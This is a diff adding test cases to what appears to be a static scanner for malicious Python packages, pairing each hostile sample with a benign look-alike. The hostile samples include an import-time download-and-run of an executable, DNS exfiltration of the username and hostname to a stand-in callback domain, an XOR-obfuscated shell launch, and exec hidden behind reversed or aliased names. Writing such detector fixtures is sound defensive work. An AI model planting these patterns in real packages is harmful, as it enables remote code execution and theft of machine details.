@@ -58,6 +58,29 @@ CASES = [
          "except socket.gaierror:\n    pass\n"}),
      # the local-address idiom many packages use at import
      py({"setup.py": TAIL, "pkg/__init__.py": "import socket\nHOST_IP = socket.gethostbyname(socket.gethostname())\n"})),
+    ("STATIC-DOWNLOAD-WRITE-RUN-FILE",
+     # an import-time thread fetches a program from a raw address and starts the file it wrote
+     py({"setup.py": TAIL, "pkg/__init__.py": "from .core import start\nstart()\n",
+         "pkg/core.py": "import requests, subprocess, threading\nFILE = 'Helper.exe'\n"
+                        "def _get():\n    r = requests.get(URL, stream=True)\n    with open(FILE, 'wb') as f:\n"
+                        "        for chunk in r.iter_content(8192):\n            f.write(chunk)\n"
+                        "    subprocess.Popen([FILE])\n"
+                        "def start():\n    threading.Thread(target=_get, daemon=True).start()\n"}),
+     # pytailwindcss-style: fetch the tool's own binary, make it executable, run it with the user's arguments
+     py(module("import os, subprocess, urllib.request\ndef run(args):\n    if not os.path.exists(bin_path):\n"
+               "        with urllib.request.urlopen(url) as resp, open(bin_path, 'wb') as f:\n"
+               "            f.write(resp.read())\n        os.chmod(bin_path, 0o755)\n"
+               "    return subprocess.run([bin_path, *args])\n"))),
+    ("STATIC-DNS-EXFIL-ENCODED-LABELS",
+     # an install override resolves base32(user).base32(host).<callback domain>
+     py(setup_py("import base64, os, socket\nfrom setuptools.command.install import install\nclass I(install):\n"
+                 "    def run(self):\n        u = base64.b32encode(os.getlogin().encode()).decode().rstrip('=')\n"
+                 "        h = base64.b32encode(socket.gethostname().encode()).decode().rstrip('=')\n"
+                 "        d = u + '.' + h + '.a.callback.example'\n        try:\n            socket.gethostbyname(d)\n"
+                 "        except socket.gaierror:\n            pass\n")),
+     # the FQDN idiom at import, next to an encoded auth header (one label: the machine's own name)
+     py({"setup.py": TAIL, "pkg/__init__.py": "import base64, socket\nfqdn = socket.gethostname() + '.corp.example.com'\n"
+         "ADDR = socket.gethostbyname(fqdn)\nAUTH = base64.b64encode(b'user:pass')\n"})),
     ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
      # maratlib-style: fetch a script to a file, make it executable, run it
      py(setup_py("import subprocess\nsubprocess.getoutput('cd /tmp && wget https://files.example/s.sh -O s.sh && "
@@ -89,6 +112,15 @@ CASES = [
     ("STATIC-PY-DECODE-EXEC-VAR",
      py(module("import base64\npayload = base64.b64decode(DATA)\nx = 1\nexec(payload)\n")),
      py(module("import base64\nicon = base64.b64decode(ICON)\nexec(compile(open('cfg.py').read(), 'cfg.py', 'exec'))\n"))),
+    ("STATIC-PY-XOR-DECODE-SHELL",
+     # the launcher's name XOR-encoded, decoded and run in a shell on a file the package wrote
+     py(module("import subprocess\ndef load(path, key):\n    command = b'\\xae\\xa9\\xb2\\xb8\\xb0\\xb0\\xef\\xee'\n"
+               "    name = bytes([byte ^ key for byte in command]).decode()\n"
+               "    subprocess.run(f'{name} \"{path}\",Entry', shell=True)\n")),
+     # websocket-client-style masking of runtime data, in a module that also runs a shell command
+     py(module("import subprocess\nMAGIC = b'\\x81\\x82\\x83\\x84\\x85\\x86'\ndef mask(key, data):\n"
+               "    return bytes([b ^ k for b, k in zip(data, key * len(data))])\n"
+               "def version():\n    return subprocess.run('git --version', shell=True, capture_output=True)\n"))),
     ("STATIC-PY-CODEC-ENCODED-EXEC",
      py(module("exec(b'\\x89\\x94\\x97'.decode('cp1026'))\n")),
      py(module("exec(open(path, encoding='utf-8').read())\n"))),
@@ -105,6 +137,26 @@ CASES = [
     ("STATIC-PY-BUILTINS-LOOKUP",  # a code-execution agent naming builtins it blocks (prismal-ai)
      py(module("f = vars(__builtins__)[bytes([101, 120, 101, 99]).decode()]\n")),
      py(module('BLOCKED = "getattr(__builtins__, \'__import__\')"\nx = getattr(__builtins__, "__import__")\n'))),
+    ("STATIC-PY-BUILTINS-LOOKUP",
+     # a reversed name read out of globals() and called, from the package's __init__
+     py({"setup.py": TAIL, "pkg/__init__.py": "globals()['lave'[::-1]](CODE)\n"}),
+     # kombu-style: a flag stored under a reversed name to hide it from linters (a store reaches nothing)
+     py({"setup.py": TAIL, "pkg/__init__.py": "STATICA_HACK = True\nglobals()['kcah_acitats'[::-1].upper()] = False\n"
+         "if STATICA_HACK:\n    from pkg.core import Thing\n"})),
+    ("STATIC-PY-EXEC-ALIASED",
+     # Hyperion's first line: exec renamed among other builtins, then called under the new names
+     py(module("from builtins import *\nStatistics, _square, Product, MemoryAccess = exec, str, tuple, map\n"
+               "Statistics(_square(Product(MemoryAccess(chr, DATA))))\n")),
+     # future/six-style compatibility shims: one name bound to exec, builtins aliased without it
+     py(module("exec_ = exec\n_str, _int, _float = str, int, float\n"))),
+    ("STATIC-INSTALL-ARCHIVE-EXEC",
+     # an install override runs a module out of a zip the sdist ships
+     py(setup_py("import sys, zipimport, importlib.util\nfrom setuptools.command.install import install\n"
+                 "def load():\n    zi = zipimport.zipimporter('my.zip')\n    spec = importlib.util.spec_from_loader('my', zi)\n"
+                 "    mod = importlib.util.module_from_spec(spec)\n    zi.exec_module(mod)\n    mod.hello()\n"
+                 "class I(install):\n    def run(self):\n        load()\n        install.run(self)\n")),
+     # a plugin loader that imports zipped plugins when the user asks (not at install)
+     py(module("import zipimport\ndef load_plugin(path, name):\n    return zipimport.zipimporter(path).load_module(name)\n"))),
     ("STATIC-PY-SILENT-POPEN",
      py(module("import subprocess\nsubprocess.Popen(['stub.exe'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
                "                 creationflags=0x08000000)\n")),
